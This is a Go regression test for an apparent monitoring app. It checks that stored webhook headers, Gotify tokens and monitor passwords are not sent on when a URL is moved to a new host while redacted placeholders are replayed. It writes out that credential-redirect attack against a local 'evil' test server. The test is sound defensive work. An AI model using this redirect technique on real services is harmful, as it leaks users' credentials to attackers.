package app

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
)

// hookServer records the Authorization header of every request it gets.
type hookServer struct {
	*httptest.Server
	mu   sync.Mutex
	auth []string
}

func newHookServer(t *testing.T) *hookServer {
	h := &hookServer{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.auth = append(h.auth, r.Header.Get("Authorization")+r.Header.Get("X-Gotify-Key")+r.URL.Query().Get("token"))
		h.mu.Unlock()
		w.WriteHeader(200)
	}))
	t.Cleanup(h.Close)
	return h
}

func (h *hookServer) got() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.auth...)
}

// TestSecretsStayPut is the attack: PATCH a webhook channel's URL to a new
// host while sending the redacted headers back, press test, and the real
// Authorization header went to the new host. Now the PATCH is refused
// naming the secret field, until the secret is entered again.
func TestSecretsStayPut(t *testing.T) {
	e := newEnv(t)
	tok := e.signup(t)
	home, evil := newHookServer(t), newHookServer(t)

	r := e.do(t, "POST", "/api/v1/channels", tok, `{"name":"hook","type":"webhook","settings":{"url":"`+home.URL+`/hook",
		"headers":{"Authorization":"Bearer the-real-secret-token"}}}`)
	var c channelJSON
	r.json(t, &c)
	if r.code != 201 {
		t.Fatalf("create: %d %s", r.code, r.body)
	}
	var shown struct {
		Settings struct {
			URL     string            `json:"url"`
			Headers map[string]string `json:"headers"`
		}
	}
	e.do(t, "GET", "/api/v1/channels/"+itoa(c.ID), tok, "").json(t, &shown)
	redacted, _ := json.Marshal(shown.Settings.Headers)

	r = e.do(t, "PATCH", "/api/v1/channels/"+itoa(c.ID), tok, `{"settings":{"url":"`+evil.URL+`/x","headers":`+string(redacted)+`}}`)
	var p problem
	r.json(t, &p)
	if r.code != 422 || p.Field != "settings.headers" {
		t.Fatalf("moving the URL with the redacted headers: %d %s, want 422 naming settings.headers", r.code, r.body)
	}
	e.do(t, "POST", "/api/v1/channels/"+itoa(c.ID)+"/test", tok, "")
	if got := evil.got(); len(got) != 0 {
		t.Fatalf("the new host received %q", got)
	}
	// Entered again, the secret goes where it was entered.
	r = e.do(t, "PATCH", "/api/v1/channels/"+itoa(c.ID), tok, `{"settings":{"url":"`+evil.URL+`/x","headers":{"Authorization":"Bearer for-the-new-host"}}}`)
	if r.code != 200 {
		t.Fatalf("with the secret entered again: %d %s", r.code, r.body)
	}
	if r := e.do(t, "POST", "/api/v1/channels/"+itoa(c.ID)+"/test", tok, ""); r.code != 200 {
		t.Fatalf("test: %d %s", r.code, r.body)
	}
	if got := evil.got(); len(got) != 1 || got[0] != "Bearer for-the-new-host" {
		t.Errorf("new host received %q", got)
	}

	// Gotify: a new server with the app token's placeholder.
	r = e.do(t, "POST", "/api/v1/channels", tok, `{"name":"g","type":"gotify","settings":{"server_url":"`+home.URL+`","app_token":"GotifyApp123"}}`)
	r.json(t, &c)
	r = e.do(t, "PATCH", "/api/v1/channels/"+itoa(c.ID), tok, `{"settings":{"server_url":"`+evil.URL+`","app_token":"••••"}}`)
	r.json(t, &p)
	if r.code != 422 || p.Field != "settings.app_token" {
		t.Errorf("moving gotify's server with the redacted token: %d %s", r.code, r.body)
	}
	if r := e.do(t, "PATCH", "/api/v1/channels/"+itoa(c.ID), tok, `{"name":"g2","settings":{"server_url":"`+home.URL+`","app_token":"••••"}}`); r.code != 200 {
		t.Errorf("same server, placeholder kept: %d %s", r.code, r.body)
	}

	// A monitor's basic-auth password does not follow a new URL either.
	var m monitorJSON
	r = e.do(t, "POST", "/api/v1/monitors", tok, `{"name":"m","url":"`+home.URL+`/health","settings":{"auth_user":"u","auth_password":"monitor-secret"}}`)
	r.json(t, &m)
	if r.code != 201 {
		t.Fatalf("monitor: %d %s", r.code, r.body)
	}
	for _, body := range []string{
		`{"url":"` + evil.URL + `/x"}`,
		`{"url":"` + evil.URL + `/x","settings":{"auth_user":"u","auth_password":"••••"}}`,
	} {
		r = e.do(t, "PATCH", "/api/v1/monitors/"+itoa(m.ID), tok, body)
		r.json(t, &p)
		if r.code != 422 || p.Field != "settings.auth_password" {
			t.Errorf("PATCH %s: %d %s, want 422 naming settings.auth_password", body, r.code, r.body)
		}
	}
	if r := e.do(t, "PATCH", "/api/v1/monitors/"+itoa(m.ID), tok, `{"url":"`+evil.URL+`/x","settings":{"auth_user":"u","auth_password":"new-secret"}}`); r.code != 200 {
		t.Errorf("monitor with the password entered again: %d %s", r.code, r.body)
	}
	if r := e.do(t, "PATCH", "/api/v1/monitors/"+itoa(m.ID), tok, `{"name":"renamed"}`); r.code != 200 {
		t.Errorf("rename keeps the secret: %d %s", r.code, r.body)
	}
}
